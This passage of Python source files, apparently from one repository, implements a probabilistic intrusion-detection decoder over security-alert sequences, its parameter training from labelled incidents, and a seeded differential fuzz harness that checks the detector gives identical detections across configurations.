            cursor.end_index = positions[-1] if positions else -1
            if matched:
                bonus = self.parameters.pattern_bonus(
                    matched, len(pattern.names), pattern.weight
                )
                if bonus > 0.0:
                    self._insert_bonus(cursor.end_index, index, bonus)
                    dirty.add(cursor.end_index)
                if matched == len(pattern.names):
                    self._complete.add(index)
        self._rebuild_waiting()
        self._bonus_at.pop(evicted, None)
        return dirty

    def _greedy_match(self, symbols: Sequence[str]) -> Tuple[int, List[int]]:
        """Greedy leftmost subsequence match of ``symbols`` over the window.

        Reproduces :func:`repro.core.sequences.matched_prefix_length`
        (and the end index the naive rebuild derives from it) on the
        window's names.
        """
        names = self._names
        matched = 0
        positions: List[int] = []
        cursor = self._start
        end = self._length
        for symbol in symbols:
            found = -1
            for idx in range(cursor, end):
                if names[idx] == symbol:
                    found = idx
                    break
            if found < 0:
                break
            positions.append(found)
            matched += 1
            cursor = found + 1
        return matched, positions

    def _insert_bonus(self, step: int, index: int, bonus: float) -> None:
        """Record a bonus, keeping the step's bucket in pattern-index order.

        The bucket's *insertion* order is its iteration order, which
        :meth:`_refresh_unary` relies on to sum bonuses in catalogue
        order without a per-call sort.  Appends are almost always
        already in order (``append`` processes advancing patterns in
        ascending index); the rare out-of-order insert (an eviction
        rescan relocating a bonus onto a step that already carries one)
        re-sorts the small bucket once.
        """
        bucket = self._bonus_at.setdefault(step, {})
        fresh = index not in bucket
        bucket[index] = bonus
        if fresh and len(bucket) > 1:
            keys = list(bucket)
            if keys[-2] > index:
                self._bonus_at[step] = dict(sorted(bucket.items()))

    def _refresh_unary(self, step: int) -> None:
        """Rebuild one effective unary row: base (+ prior) + ordered bonuses."""
        row = self._base[step].copy()
        if step == self._start:
            row += self.parameters.initial_log
        bonuses = self._bonus_at.get(step)
        if bonuses:
            for bonus in bonuses.values():
                row[_MALICIOUS] += bonus
        self._unary[step] = row

    # -- windowed-mode aggregate maintenance ---------------------------------
    def _step_matrix(self, step: int) -> np.ndarray:
        return chain_step_matrix(self._pairwise, self._unary[step])

    def _rebuild_window_aggregates(self) -> None:
        """Exact O(W * K^3) re-aggregation of the two-stack structure."""
        indices = range(self._start + 1, self._length)
        self._window.rebuild(indices, [self._step_matrix(j) for j in indices])

    def _apply_dirty_to_window(self, dirty: Set[int], appended: Optional[int] = None) -> None:
        """Patch the aggregates after unary rows changed (and/or an append).

        Dirty steps are replaced in place on whichever side of the
        two-stack boundary holds them (partial prefix/suffix
        recomputation); the structure holds every queued step, so the
        full re-aggregation below is a defensive fallback.  The head
        row is read fresh at query time and needs no patch.
        """
        for step in dirty:
            if step <= self._start or step == appended:
                continue
            if not self._window.replace(step, self._step_matrix(step)):
                # Fallback: exact re-aggregation (already covers the
                # appended step, if any).
                self._rebuild_window_aggregates()
                return
        if appended is not None:
            self._window.push(appended, self._step_matrix(appended))

    def _recompute_forward(self, start: int) -> None:
        """Extend/repair the forward recursions from ``start`` to the end.

        Each step reproduces exactly one loop iteration of
        ``chain_map_decode`` (Viterbi score + backpointers) and
        ``chain_marginals`` (normalised forward message).  Only used
        while the window is still filling; windowed mode materialises
        read-outs via :meth:`_window_decode` instead.
        """
        unary = self._unary
        score = self._score
        alpha = self._alpha
        backpointers = self._backpointers
        pairwise = self._pairwise
        arange_k = self._arange_k
        for t in range(start, self._length):
            if t == 0:
                score[0] = unary[0]
                backpointers[0] = 0
                alpha[0] = _normalize_log(unary[0])
                continue
            candidate = score[t - 1][:, None] + pairwise
            bp = np.argmax(candidate, axis=0)
            backpointers[t] = bp
            score[t] = candidate[bp, arange_k] + unary[t]
            prev = alpha[t - 1][:, None] + pairwise
            alpha[t] = _normalize_log(_logsumexp(prev, axis=0) + unary[t])

    # -- decisions -----------------------------------------------------------
    def window_scores(self) -> Tuple[np.ndarray, np.ndarray]:
        """Aggregate ``(viterbi_score, forward_log)`` of the window: O(K^2).

        Only meaningful in windowed mode; values are mathematically
        exact but floating-point reassociated relative to the sequential
        decode, so they feed guard-banded decisions, never emitted
        numbers.
        """
        if not self._windowed:
            raise ValueError("window_scores requires windowed mode")
        return self._window.apply(self._unary[self._start])

    def may_fire(self, threshold: float) -> bool:
        """Cheap pre-filter: could this window cross the detection bar?

        ``False`` is authoritative (the exact decode provably cannot
        fire: the aggregate is within reassociation error of the exact
        values, and both margins clear the guard band).  ``True`` means
        the caller must consult the exact read-outs, which then decide
        -- and materialise -- the detection bit-identically to the
        naive path.
        """
        score, forward = self.window_scores()
        magnitude = float(np.max(np.abs(score)))
        guard = max(_DECISION_GUARD, _GUARD_SLACK * self.length * magnitude)
        if score[_MALICIOUS] < np.max(score) - guard:
            return False
        probability = float(np.exp(forward[_MALICIOUS] - _logsumexp(forward)))
        if np.isnan(probability):
            # Hard zeros (-inf log potentials) in user-supplied
            # parameters turn the finite-input aggregate into NaN; the
            # pre-filter cannot rule anything out then, so defer to the
            # exact decode (which handles -inf).
            return True
        return probability >= threshold - guard

    # -- read-out ------------------------------------------------------------
    def _window_decode(self) -> Tuple[np.ndarray, np.ndarray]:
        """Exact sequential decode of the window, cached per version.

        Returns ``(map_path, final_marginal)``.  The MAP path reproduces
        ``chain_map_decode`` on the window's unary table; the final
        marginal reproduces ``chain_marginals(...)[-1]`` via the
        forward recursion only (the backward message at the final step
        is identically zero, so the backward pass cannot change the
        final row -- same argument, and same float ops, as the
        incremental ``_alpha`` read-out while the window is filling).
        """
        cache = self._decode_cache
        if cache is not None and cache[0] == self._version:
            return cache[1], cache[2]
        unary = self._unary[self._start : self._length]
        pairwise = self._pairwise
        path = chain_map_decode(unary, pairwise)
        forward = _normalize_log(unary[0])
        for t in range(1, unary.shape[0]):
            prev = forward[:, None] + pairwise
            forward = _normalize_log(_logsumexp(prev, axis=0) + unary[t])
        final_marginal = np.exp(forward - _logsumexp(forward))
        self._decode_cache = (self._version, path, final_marginal)
        return path, final_marginal

    def final_marginal(self) -> np.ndarray:
        """Posterior over the current state.

        Matches ``chain_marginals(unary, pairwise)[-1]`` on the window's
        unary table bit-for-bit (directly materialised in windowed mode;
        via the incrementally maintained forward message before that).
        """
        if self.length == 0:
            raise ValueError("decoder is empty")
        if self._windowed:
            # Copy: the cached array must survive caller mutation.
            return self._window_decode()[1].copy()
        last = self._alpha[self._length - 1]
        return np.exp(last - _logsumexp(last))

    def final_malicious_probability(self) -> float:
        """Posterior probability that the entity is currently malicious."""
        return float(self.final_marginal()[_MALICIOUS])

    def final_state(self) -> int:
        """Final state of the MAP trajectory (``argmax`` of the Viterbi score)."""
        if self.length == 0:
            raise ValueError("decoder is empty")
        if self._windowed:
            return int(self._window_decode()[0][-1])
        return int(np.argmax(self._score[self._length - 1]))

    def map_path(self) -> np.ndarray:
        """Full MAP state trajectory of the window.

        O(T) backpointer backtrack while the window is filling; the
        cached exact window decode afterwards.
        """
        if self._windowed:
            return self._window_decode()[0].copy()
        steps = self._length
        path = np.zeros(steps, dtype=np.int64)
        if steps == 0:
            return path
        path[-1] = int(np.argmax(self._score[steps - 1]))
        backpointers = self._backpointers
        for t in range(steps - 1, 0, -1):
            path[t - 1] = backpointers[t, path[t]]
        return path

    def matched_pattern_names(self) -> list[str]:
        """Names of fully matched patterns, in catalogue order."""
        return [self.patterns[index].name for index in sorted(self._complete)]

    def matched_prefix_lengths(self) -> list[int]:
        """Current matched-prefix length of every tracked pattern."""
        return [cursor.matched for cursor in self._cursors]

    def unary_table(self) -> np.ndarray:
        """Copy of the window's effective unary log potentials (T, K)."""
        return self._unary[self._start : self._length].copy()

    def marginals(self) -> np.ndarray:
        """Full per-step posteriors of the window (O(W * K^2) decode).

        The only read-out that needs the backward pass; computed on
        demand rather than cached (diagnostic use only).
        """
        if self.length == 0:
            return np.zeros((0, NUM_STATES))
        return chain_marginals(self._unary[self._start : self._length], self._pairwise)


__all__ = ["PatternCursor", "StreamingDecoder", "WeightedPattern"]
