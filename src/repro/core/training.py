"""Parameter estimation for the preemption model.

The factor tables in :class:`repro.core.factors.FactorParameters` are
estimated from a *labelled* corpus: every past incident contributes an
alert sequence together with a per-alert hidden-state label (benign,
suspicious, malicious), and background traffic contributes benign-only
sequences.  Estimation is straightforward smoothed maximum likelihood:

* observation table  ``P(alert | state)``  from per-state alert counts,
* transition table   ``P(state' | state)`` from consecutive label pairs,
* initial distribution from the first label of each sequence,
* pattern weights from how discriminative each catalogue pattern is --
  patterns that occur in many incidents but (almost) never in benign
  traffic receive large weights.

The labels themselves come from the incident corpus's ground truth
(§II.A of the paper: 99.7 % auto-annotated, the remainder annotated by
security experts); this module is agnostic about where they came from.
"""

from __future__ import annotations

import dataclasses
import math
from typing import Iterable, Optional, Sequence

import numpy as np

from .alerts import AlertVocabulary, DEFAULT_VOCABULARY
from .factors import PROBABILITY_FLOOR, FactorParameters
from .sequences import AlertSequence, is_subsequence
from .states import NUM_STATES, STAGE_STATE_PRIOR, HiddenState


@dataclasses.dataclass(frozen=True)
class LabeledSequence:
    """One training example: an alert sequence plus per-alert state labels."""

    sequence: AlertSequence
    labels: tuple[int, ...]
    is_attack: bool = True

    def __post_init__(self) -> None:
        if len(self.sequence) != len(self.labels):
            raise ValueError(
                f"sequence has {len(self.sequence)} alerts but {len(self.labels)} labels"
            )
        for label in self.labels:
            if not 0 <= int(label) < NUM_STATES:
                raise ValueError(f"label out of range: {label}")


def label_sequence_from_stages(
    sequence: AlertSequence,
    vocabulary: Optional[AlertVocabulary] = None,
    *,
    is_attack: bool = True,
) -> LabeledSequence:
    """Derive per-alert state labels from the alert vocabulary's stages.

    This implements the paper's automatic annotation rule: alerts whose
    type is inherently benign label the entity benign; reconnaissance
    and foothold alerts label it suspicious; escalation and later stages
    label it malicious.  For benign (non-attack) sequences every label
    is forced to benign regardless of alert type, mirroring how periodic
    scans against the whole Internet are *not* evidence that a
    particular account is compromised.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    if not is_attack:
        labels = tuple(int(HiddenState.BENIGN) for _ in sequence)
        return LabeledSequence(sequence=sequence, labels=labels, is_attack=False)
    labels = []
    reached_malicious = False
    for alert in sequence:
        stage = vocab.get(alert.name).stage
        state = STAGE_STATE_PRIOR[stage]
        if reached_malicious and state is not HiddenState.BENIGN:
            # Once compromised, an entity does not bounce back to
            # "suspicious"; compromise persists until remediation.
            state = HiddenState.MALICIOUS
        if state is HiddenState.MALICIOUS:
            reached_malicious = True
        labels.append(int(state))
    return LabeledSequence(sequence=sequence, labels=tuple(labels), is_attack=True)


@dataclasses.dataclass
class TrainingSummary:
    """Diagnostics produced alongside the learned parameters."""

    num_sequences: int
    num_attack_sequences: int
    num_alerts: int
    state_counts: np.ndarray
    pattern_support: dict[str, int]


class ParameterEstimator:
    """Smoothed maximum-likelihood estimator for the factor parameters."""

    def __init__(
        self,
        vocabulary: Optional[AlertVocabulary] = None,
        *,
        observation_smoothing: float = 0.5,
        transition_smoothing: float = 0.5,
        pattern_weight_scale: float = 2.0,
        max_pattern_weight: float = 6.0,
    ) -> None:
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self.observation_smoothing = float(observation_smoothing)
        self.transition_smoothing = float(transition_smoothing)
        self.pattern_weight_scale = float(pattern_weight_scale)
        self.max_pattern_weight = float(max_pattern_weight)
        self.summary: Optional[TrainingSummary] = None

    def fit(
        self,
        examples: Iterable[LabeledSequence],
        patterns: Optional[Sequence] = None,
    ) -> FactorParameters:
        """Estimate :class:`FactorParameters` from labelled sequences.

        Parameters
        ----------
        examples:
            Labelled alert sequences (attacks *and* benign traffic --
            without benign examples the false-positive side of Remark 2
            cannot be learned).
        patterns:
            Optional catalogue of attack patterns.  Each item needs a
            ``name`` attribute and a ``names`` attribute (the ordered
            alert-type tuple) -- :class:`repro.incidents.patterns
            .AttackPattern` satisfies this.  Pattern weights are learned
            from their support in attack vs. benign sequences.
        """
        vocab = self.vocabulary
        observation_counts = np.full(
            (len(vocab), NUM_STATES), self.observation_smoothing, dtype=np.float64
        )
        transition_counts = np.full(
            (NUM_STATES, NUM_STATES), self.transition_smoothing, dtype=np.float64
        )
        initial_counts = np.full(NUM_STATES, 1.0, dtype=np.float64)
        state_totals = np.zeros(NUM_STATES, dtype=np.float64)

        examples = list(examples)
        num_attacks = 0
        num_alerts = 0
        for example in examples:
            labels = example.labels
            names = example.sequence.names
            num_alerts += len(names)
            if example.is_attack:
                num_attacks += 1
            if labels:
                initial_counts[labels[0]] += 1.0
            for name, label in zip(names, labels):
                state_totals[label] += 1.0
                if name in vocab:
                    observation_counts[vocab.index_of(name), label] += 1.0
            for prev, nxt in zip(labels, labels[1:]):
                transition_counts[prev, nxt] += 1.0

        # Column-normalise observations: P(alert | state).
        observation = observation_counts / observation_counts.sum(axis=0, keepdims=True)
        # Row-normalise transitions and the initial distribution.
        transition = transition_counts / transition_counts.sum(axis=1, keepdims=True)
        initial = initial_counts / initial_counts.sum()

        pattern_weights: dict[str, float] = {}
        pattern_support: dict[str, int] = {}
        if patterns:
            attack_names = [e.sequence.names for e in examples if e.is_attack]
            benign_names = [e.sequence.names for e in examples if not e.is_attack]
            for pattern in patterns:
                support = sum(1 for names in attack_names if is_subsequence(pattern.names, names))
                false_support = sum(
                    1 for names in benign_names if is_subsequence(pattern.names, names)
                )
                pattern_support[pattern.name] = support
                if support == 0:
                    continue
                attack_rate = support / max(1, len(attack_names))
                benign_rate = false_support / max(1, len(benign_names)) if benign_names else 0.0
                # Log-odds-style weight: frequent-in-attacks and
                # absent-in-benign patterns score highest.
                weight = self.pattern_weight_scale * math.log(
                    (attack_rate + PROBABILITY_FLOOR) / (benign_rate + PROBABILITY_FLOOR)
                )
                weight = max(0.0, min(self.max_pattern_weight, weight))
                if weight > 0.0:
                    pattern_weights[pattern.name] = weight

        self.summary = TrainingSummary(
            num_sequences=len(examples),
            num_attack_sequences=num_attacks,
            num_alerts=num_alerts,
            state_counts=state_totals,
            pattern_support=pattern_support,
        )
        return FactorParameters(
            vocabulary=vocab,
            observation_log=np.log(np.maximum(observation, PROBABILITY_FLOOR)),
            transition_log=np.log(np.maximum(transition, PROBABILITY_FLOOR)),
            initial_log=np.log(np.maximum(initial, PROBABILITY_FLOOR)),
            pattern_weights=pattern_weights,
        )


def train_from_incidents(
    attack_sequences: Iterable[AlertSequence],
    benign_sequences: Iterable[AlertSequence] = (),
    *,
    vocabulary: Optional[AlertVocabulary] = None,
    patterns: Optional[Sequence] = None,
    estimator: Optional[ParameterEstimator] = None,
) -> FactorParameters:
    """Convenience wrapper: label sequences by stage, then fit.

    This is the path the testbed uses: the incident corpus provides raw
    attack and benign alert sequences, stage-based auto-annotation
    produces labels (the 99.7 % automatic path of §II.A), and the
    estimator produces deployable parameters.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    estimator = estimator or ParameterEstimator(vocab)
    examples = [
        label_sequence_from_stages(seq, vocab, is_attack=True) for seq in attack_sequences
    ]
    examples.extend(
        label_sequence_from_stages(seq, vocab, is_attack=False) for seq in benign_sequences
    )
    return estimator.fit(examples, patterns=patterns)


__all__ = [
    "LabeledSequence",
    "label_sequence_from_stages",
    "TrainingSummary",
    "ParameterEstimator",
    "train_from_incidents",
]
