"""Adversarial campaign fuzzing and the cross-configuration oracle.

The fuzz subsystem converts the repo's central correctness claim --
decode engine, shard count, sharding backend, and pipeline driver never
change a detection -- from an anecdote backed by hand-written suites
into a generative, checked property:

* :mod:`repro.fuzz.campaign` -- :class:`CampaignComposer` assembles
  seeded multi-entity adversarial workloads (concurrent attackers,
  hash-adjacent entity churn, window-saturating bursts, out-of-order /
  duplicate timestamps, near-miss pattern prefixes, mid-stream
  reset/reopen events),
* :mod:`repro.fuzz.oracle` -- :class:`DifferentialOracle` replays each
  campaign through the engine x shards x backend x driver matrix and
  asserts bit-identical detections, responses, and counters,
* :mod:`repro.fuzz.shrinker` -- delta-debugging reduction of failing
  campaigns to minimal repros,
* :mod:`repro.fuzz.regressions` -- the ``tests/regressions/`` replay
  corpus those repros are committed into.

Run ``python -m repro.fuzz --help`` for the command-line harness.
"""

from .campaign import (
    Campaign,
    CampaignComposer,
    CampaignEvent,
    RAW_CAPABLE_NAMES,
    campaign_to_corpus,
)
from .oracle import (
    BACKENDS,
    COMPARED_COUNTERS,
    CampaignVerdict,
    DifferentialOracle,
    Divergence,
    DRIVERS,
    ENGINES,
    OracleConfig,
    REFERENCE_CONFIG,
    ReplayResult,
    SHARD_COUNTS,
    alert_to_zeek_record,
    alerts_to_zeek_records,
    full_matrix,
    quick_matrix,
)
from .chaos import (
    ChaosComposer,
    ChaosFailure,
    ChaosOracle,
    ChaosPoisonDetector,
    ChaosVerdict,
    FAULT_KINDS,
    FaultPlan,
    SERVICE_FAULT_KINDS,
    campaign_batches,
)
from .regressions import (
    DEFAULT_REGRESSIONS_DIR,
    iter_regressions,
    regression_name,
    save_regression,
)
from .shrinker import shrink_campaign, shrink_for_oracle

__all__ = [
    "Campaign",
    "CampaignComposer",
    "CampaignEvent",
    "RAW_CAPABLE_NAMES",
    "campaign_to_corpus",
    "ENGINES",
    "SHARD_COUNTS",
    "BACKENDS",
    "DRIVERS",
    "COMPARED_COUNTERS",
    "OracleConfig",
    "REFERENCE_CONFIG",
    "full_matrix",
    "quick_matrix",
    "alert_to_zeek_record",
    "alerts_to_zeek_records",
    "ReplayResult",
    "Divergence",
    "CampaignVerdict",
    "DifferentialOracle",
    "FAULT_KINDS",
    "SERVICE_FAULT_KINDS",
    "FaultPlan",
    "ChaosPoisonDetector",
    "ChaosFailure",
    "ChaosVerdict",
    "ChaosComposer",
    "ChaosOracle",
    "campaign_batches",
    "shrink_campaign",
    "shrink_for_oracle",
    "DEFAULT_REGRESSIONS_DIR",
    "regression_name",
    "save_regression",
    "iter_regressions",
]
