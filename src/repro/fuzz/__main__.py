"""Command-line fuzz harness.

Examples::

    # 25 seed-pinned campaigns through the full 72-config matrix
    # (the CI quick-fuzz gate):
    python -m repro.fuzz --campaigns 25 --base-seed 0 --matrix full

    # A focused run against explicit configurations:
    python -m repro.fuzz --campaigns 5 \
        --configs streaming:4:process:alert_stream,naive:2:process:raw_stream

    # Replay one committed regression repro across the matrix:
    python -m repro.fuzz --replay tests/regressions/some-repro.json

On divergence the failing campaign is shrunk to a minimal repro and
written into ``--regressions-dir`` (default ``tests/regressions``);
commit that file so the tier-1 suite replays it forever after.  Exit
status is non-zero iff any campaign diverged.
"""

from __future__ import annotations

import argparse
import sys
import time
from pathlib import Path

from .campaign import Campaign, CampaignComposer
from .oracle import DifferentialOracle, OracleConfig, full_matrix, quick_matrix
from .regressions import DEFAULT_REGRESSIONS_DIR, save_regression
from .shrinker import shrink_for_oracle


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.fuzz",
        description=(
            "Adversarial campaign fuzzer: replay seeded multi-entity "
            "workloads through the engine x shards x backend x driver "
            "matrix and assert bit-identical detections."
        ),
    )
    parser.add_argument("--campaigns", type=int, default=25,
                        help="number of campaigns to compose and check (default 25)")
    parser.add_argument("--base-seed", type=int, default=0,
                        help="composer base seed (campaign k uses (seed, k))")
    parser.add_argument("--seed", type=int, default=None,
                        help="alias for --base-seed (overrides it when given)")
    parser.add_argument("--matrix", choices=("full", "quick"), default="full",
                        help="configuration matrix to replay (default full)")
    parser.add_argument("--configs", type=str, default=None,
                        help="comma-separated engine:shards:backend:driver specs "
                             "(overrides --matrix)")
    parser.add_argument("--target-alerts", type=int, default=300,
                        help="approximate alerts per campaign (default 300)")
    parser.add_argument("--raw-every", type=int, default=3,
                        help="every Nth campaign is raw-record expressible "
                             "(0 disables; default 3)")
    parser.add_argument("--no-shrink", action="store_true",
                        help="record failing campaigns unshrunk")
    parser.add_argument("--regressions-dir", type=Path, default=DEFAULT_REGRESSIONS_DIR,
                        help="where to write shrunk repros (default tests/regressions)")
    parser.add_argument("--no-write", action="store_true",
                        help="do not write repro files for failures")
    parser.add_argument("--replay", type=Path, default=None,
                        help="replay one saved campaign file instead of fuzzing")
    parser.add_argument("--fail-fast", action="store_true",
                        help="stop at the first diverging campaign")
    parser.add_argument("--chaos", action="store_true",
                        help="run seeded fault campaigns against the "
                             "crash-semantics oracle instead of the "
                             "differential matrix")
    parser.add_argument("--service-legs", action="store_true",
                        help="with --chaos: run the socket-level service "
                             "fault legs (disconnect / reshard-kill / shed) "
                             "instead of the pipeline legs")
    return parser


def _chaos_main(args: argparse.Namespace) -> int:
    """The ``--chaos`` mode: seeded fault campaigns, crash-semantics oracle."""
    from .chaos import ChaosComposer, ChaosOracle

    composer = ChaosComposer(args.base_seed, target_alerts=args.target_alerts)
    oracle = ChaosOracle()
    failures = 0
    legs_total = 0
    started = time.perf_counter()
    campaigns = (
        composer.service_campaigns(args.campaigns)
        if args.service_legs
        else composer.chaos_campaigns(args.campaigns)
    )
    for index, campaign, plans in campaigns:
        campaign_started = time.perf_counter()
        verdict = oracle.run(campaign, plans)
        elapsed = time.perf_counter() - campaign_started
        legs_total += verdict.legs_run
        if verdict.failures:
            status = f"VIOLATED ({len(verdict.failures)})"
        elif verdict.legs_run == 0:
            status = "SKIPPED (no fault legs)"
        else:
            status = "ok"
        print(
            f"{campaign.label:<24} alerts={campaign.num_alerts:<5} "
            f"legs={verdict.legs_run:<2} {elapsed:6.2f}s  {status}",
            flush=True,
        )
        if verdict.failures:
            failures += 1
            for failure in verdict.failures[:5]:
                print(f"  {failure}")
            if args.fail_fast:
                break
    total = time.perf_counter() - started
    print(
        f"{args.campaigns} chaos campaign(s), {legs_total} fault leg(s), "
        f"{failures} violating, {total:.1f}s total"
    )
    if failures:
        return 1
    if legs_total == 0:
        print(
            "FAIL: nothing was actually checked -- no campaign produced "
            "any fault leg (campaigns too small? see --target-alerts)"
        )
        return 1
    return 0


def main(argv: list[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    if args.seed is not None:
        args.base_seed = args.seed
    if args.chaos:
        return _chaos_main(args)
    if args.configs:
        configs = [OracleConfig.parse(spec) for spec in args.configs.split(",")]
    elif args.matrix == "quick":
        configs = quick_matrix()
    else:
        configs = full_matrix()
    oracle = DifferentialOracle(configs)

    if args.replay is not None:
        # Replaying a committed repro is a sanity check: never re-shrink
        # it into a second, differently-named corpus file.
        args.no_write = True
        campaigns = [Campaign.load(args.replay)]
    else:
        composer = CampaignComposer(
            args.base_seed, target_alerts=args.target_alerts
        )
        campaigns = list(composer.campaigns(args.campaigns, raw_every=args.raw_every))

    failures = 0
    total_configs_run = 0
    started = time.perf_counter()
    for campaign in campaigns:
        campaign_started = time.perf_counter()
        verdict = oracle.run(campaign)
        elapsed = time.perf_counter() - campaign_started
        total_configs_run += verdict.configs_run
        # A verdict with nothing replayed is vacuous, not a pass.
        if not verdict.ok:
            status = f"DIVERGED ({len(verdict.divergences)})"
        elif verdict.configs_run == 0:
            status = "SKIPPED (no applicable configs)"
        else:
            status = "ok"
        print(
            f"{campaign.label:<24} alerts={campaign.num_alerts:<5} "
            f"batches={campaign.num_batches:<4} configs={verdict.configs_run:<3} "
            f"{elapsed:6.2f}s  {status}",
            flush=True,
        )
        if verdict.ok:
            continue
        failures += 1
        for divergence in verdict.divergences[:5]:
            print(f"  {divergence}")
        if not args.no_write:
            repro = campaign
            if not args.no_shrink:
                shrunk = shrink_for_oracle(campaign, oracle, verdict=verdict)
                if shrunk is not None:
                    repro = shrunk
            path = save_regression(repro, args.regressions_dir)
            print(
                f"  repro written: {path} "
                f"({repro.num_alerts} alerts, {len(repro.events)} events)"
            )
        if args.fail_fast:
            break
    total = time.perf_counter() - started
    print(
        f"{len(campaigns)} campaign(s), {failures} divergent, {total:.1f}s total"
    )
    if failures:
        return 1
    if total_configs_run == 0:
        # Zero campaigns, or every config skipped on every campaign:
        # the differential property was never exercised -- a vacuous
        # run must not pass a gate.
        print(
            "FAIL: nothing was actually checked -- no campaign replayed "
            "any configuration (raw_stream-only configs need raw-capable "
            "campaigns; see --raw-every, --campaigns)"
        )
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
