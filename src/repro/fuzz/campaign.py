"""Seeded adversarial campaign composition.

A *campaign* is one reproducible multi-entity adversarial workload: an
ordered list of events, where each event is either a batch of symbolic
alerts or a detector control operation (entity reset, full reset,
detection-tier reopen) injected between batches.  Campaigns are the
unit the differential oracle (:mod:`repro.fuzz.oracle`) replays through
the full engine x shards x backend x driver configuration matrix, so
everything about them is deterministic: a campaign is a pure function
of its ``numpy.random.Generator`` seed.

:class:`CampaignComposer` assembles campaigns from the ingredients the
ROADMAP's "as many scenarios as you can imagine" north star calls for:

* concurrent attackers interleaved on shared hosts, drawn from the
  scripted :mod:`repro.attacks` scenarios and the S1..S43 pattern
  catalogue (full backbones, near-miss proper prefixes, single-step
  mutations),
* entity churn with hash-adjacent names -- several entities whose
  ``crc32`` values collide modulo the shard count, plus unicode entity
  names -- to stress shard routing,
* per-entity bursts that saturate ``max_window`` and straddle the
  two-stack eviction boundary of the amortised sliding-window decoder,
* out-of-order and duplicate-timestamp alerts,
* mid-stream ``reset_entity()`` / ``reset()`` and detection-tier
  ``close()``/reopen events.

``compose(raw_capable=True)`` restricts the alert vocabulary to names
expressible as Zeek notices so the same campaign can also be driven
through the raw-record ingestion path (``ingest_raw_stream``) and still
produce bit-identical filtered alerts -- see
:func:`repro.fuzz.oracle.alerts_to_zeek_records`.
"""

from __future__ import annotations

import dataclasses
import json
import zlib
from pathlib import Path
from typing import Any, Iterator, Mapping, Optional, Sequence

import numpy as np

from ..attacks import GhostAccountScenario, StolenCredentialScenario
from ..core.alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from ..core.sequences import AlertSequence
from ..core.states import AttackStage
from ..incidents import DEFAULT_CATALOGUE, PatternCatalogue
from ..incidents.corpus import IncidentCorpus
from ..incidents.incident import GroundTruth, Incident
from ..telemetry.normalizer import ZEEK_NOTICE_MAP

#: Event kinds a campaign may contain.
EVENT_KINDS = ("batch", "reset_entity", "reset", "reopen")

#: Alert names expressible as Zeek notices (raw-capable campaigns).
RAW_CAPABLE_NAMES: tuple[str, ...] = tuple(sorted(set(ZEEK_NOTICE_MAP.values())))


@dataclasses.dataclass(frozen=True)
class CampaignEvent:
    """One campaign event: an alert batch or a detector control."""

    kind: str
    alerts: tuple[Alert, ...] = ()
    entity: str = ""

    def __post_init__(self) -> None:
        if self.kind not in EVENT_KINDS:
            raise ValueError(f"unknown campaign event kind: {self.kind!r}")
        if self.kind != "batch" and self.alerts:
            raise ValueError(f"{self.kind} events carry no alerts")
        if self.kind == "reset_entity" and not self.entity:
            raise ValueError("reset_entity events need an entity")

    def to_dict(self) -> dict[str, Any]:
        """JSON-serialisable representation."""
        data: dict[str, Any] = {"kind": self.kind}
        if self.kind == "batch":
            data["alerts"] = [alert.to_dict() for alert in self.alerts]
        elif self.kind == "reset_entity":
            data["entity"] = self.entity
        return data

    @classmethod
    def from_dict(cls, data: Mapping[str, Any]) -> "CampaignEvent":
        """Inverse of :meth:`to_dict`."""
        kind = str(data["kind"])
        if kind == "batch":
            return cls(
                kind="batch",
                alerts=tuple(Alert.from_dict(a) for a in data.get("alerts", [])),
            )
        return cls(kind=kind, entity=str(data.get("entity", "")))


@dataclasses.dataclass(frozen=True)
class Campaign:
    """One reproducible adversarial workload.

    ``max_window`` and ``detection_threshold`` are campaign properties
    (not oracle configuration): every replayed configuration uses the
    same detector hyper-parameters, so small windows make the eviction
    boundary cheap to cross without thousand-alert bursts.
    """

    seed: int
    events: tuple[CampaignEvent, ...]
    max_window: int = 64
    detection_threshold: float = 0.5
    raw_capable: bool = False
    label: str = ""

    def alerts(self) -> list[Alert]:
        """Every alert in the campaign, in stream (event) order."""
        out: list[Alert] = []
        for event in self.events:
            out.extend(event.alerts)
        return out

    @property
    def num_alerts(self) -> int:
        """Total number of alerts across all batch events."""
        return sum(len(event.alerts) for event in self.events)

    @property
    def num_batches(self) -> int:
        """Number of batch events."""
        return sum(1 for event in self.events if event.kind == "batch")

    def entities(self) -> list[str]:
        """Distinct entities appearing in the campaign, in first-seen order."""
        seen: dict[str, None] = {}
        for alert in self.alerts():
            seen.setdefault(alert.entity, None)
        return list(seen)

    # -- persistence -----------------------------------------------------
    def to_dict(self) -> dict[str, Any]:
        """JSON-serialisable representation (the regression-repro format)."""
        return {
            "kind": "repro-fuzz-campaign",
            "seed": self.seed,
            "label": self.label,
            "max_window": self.max_window,
            "detection_threshold": self.detection_threshold,
            "raw_capable": self.raw_capable,
            "events": [event.to_dict() for event in self.events],
        }

    @classmethod
    def from_dict(cls, data: Mapping[str, Any]) -> "Campaign":
        """Inverse of :meth:`to_dict`."""
        if data.get("kind") != "repro-fuzz-campaign":
            raise ValueError("not a fuzz-campaign document")
        return cls(
            seed=int(data["seed"]),
            events=tuple(CampaignEvent.from_dict(e) for e in data["events"]),
            max_window=int(data.get("max_window", 64)),
            detection_threshold=float(data.get("detection_threshold", 0.5)),
            raw_capable=bool(data.get("raw_capable", False)),
            label=str(data.get("label", "")),
        )

    def save(self, path: str | Path) -> Path:
        """Write the campaign as a JSON repro file."""
        path = Path(path)
        path.write_text(
            json.dumps(self.to_dict(), indent=1, sort_keys=True) + "\n",
            encoding="utf-8",
        )
        return path

    @classmethod
    def load(cls, path: str | Path) -> "Campaign":
        """Inverse of :meth:`save`."""
        return cls.from_dict(json.loads(Path(path).read_text(encoding="utf-8")))


def _collision_entities(
    prefix: str, n_shards: int, target_shard: int, count: int
) -> list[str]:
    """``count`` entity names whose crc32 collides modulo ``n_shards``.

    Deterministic (counter scan, no RNG): the names are "hash-adjacent"
    in the routing sense -- they all land on ``target_shard`` -- so a
    campaign built from them funnels its whole stream through one shard
    of an ``n_shards``-way pool while still spreading across shards at
    other pool widths.
    """
    found: list[str] = []
    counter = 0
    while len(found) < count:
        name = f"{prefix}{counter}"
